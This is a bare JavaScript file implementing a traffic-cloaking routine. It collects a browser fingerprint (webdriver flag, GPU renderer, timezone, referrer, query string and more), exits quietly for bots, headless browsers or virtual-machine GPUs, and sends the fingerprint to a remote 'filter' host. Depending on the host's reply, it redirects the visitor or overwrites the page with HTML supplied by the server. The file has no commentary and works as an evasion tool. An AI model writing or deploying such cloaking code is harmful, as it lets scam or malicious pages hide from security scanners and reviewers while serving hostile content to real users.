const collect = () => {
  const gl = document.createElement('canvas').getContext('webgl');
  const ext = gl && gl.getExtension('WEBGL_debug_renderer_info');
  return {
    wd: navigator.webdriver === true,
    pl: navigator.plugins.length,
    ln: navigator.languages,
    tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
    gpu: ext ? gl.getParameter(ext.UNMASKED_RENDERER_WEBGL) : '',
    touch: 'ontouchstart' in window || navigator.maxTouchPoints > 0,
    scr: [screen.width, screen.height, window.devicePixelRatio],
    ref: document.referrer,
    q: location.search,
    ph: !!(window._phantom || window.callPhantom || window.__nightmare),
  };
};

(async () => {
  const d = collect();
  if (d.wd || d.ph || /SwiftShader|llvmpipe|VirtualBox/i.test(d.gpu)) return;
  try {
    const r = await fetch('https://filter.kloak-flow.example/api/check/6f1d', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(d),
    });
    const j = await r.json();
    if (j.result === 'offer') {
      if (j.mode === 'redirect') {
        location.replace(j.url);
      } else {
        document.open();
        document.write(j.html);
        document.close();
      }
    }
  } catch (_) {}
})();
